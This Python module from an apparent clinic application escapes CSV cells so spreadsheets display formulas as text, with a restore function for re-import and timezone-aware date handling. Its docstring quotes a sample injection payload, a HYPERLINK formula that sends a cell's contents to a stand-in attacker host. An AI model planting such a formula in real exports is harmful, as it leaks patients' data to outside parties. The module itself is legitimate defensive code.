"""CSV cells that a spreadsheet cannot run: the one writer every CSV export uses.

A spreadsheet treats a cell starting with `=`, `+`, `-` or `@` as a formula (and a
leading tab or carriage return can hide one), so a patient named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` becomes a live link in whoever opens
the export. Following OWASP's CSV injection guidance, such a cell is written with a
leading `'`, which spreadsheets show as text. The rule has no exceptions: a negative
number (`-5`) and an E.164 phone number (`+14165550123`) are quoted too; importing one of
our files back (`clinic.csv_import`) removes the quote again with `csv_cell_restore`.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    """The value as a cell a spreadsheet shows as text (None is empty, dates ISO 8601)."""
    if value is None:
        return ""
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_cell_restore(text: str) -> str:
    """The value `csv_cell` wrote: `'=x` -> `=x`; any other text unchanged."""
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell`. With `zone` (the clinic's), a
    date-time is written as that clinic's wall-clock time with its offset
    (`2026-12-04T10:30:00-05:00`), as a person reading the file expects, not in UTC."""

    def __init__(self, out, *, zone: dt.tzinfo | None = None, **kwargs):
        self._writer = csv.writer(out, **kwargs)
        self._zone = zone

    def _local(self, value):
        if self._zone is not None and isinstance(value, dt.datetime) and value.tzinfo is not None:
            return value.astimezone(self._zone).isoformat()
        return value

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([csv_cell(self._local(value)) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)
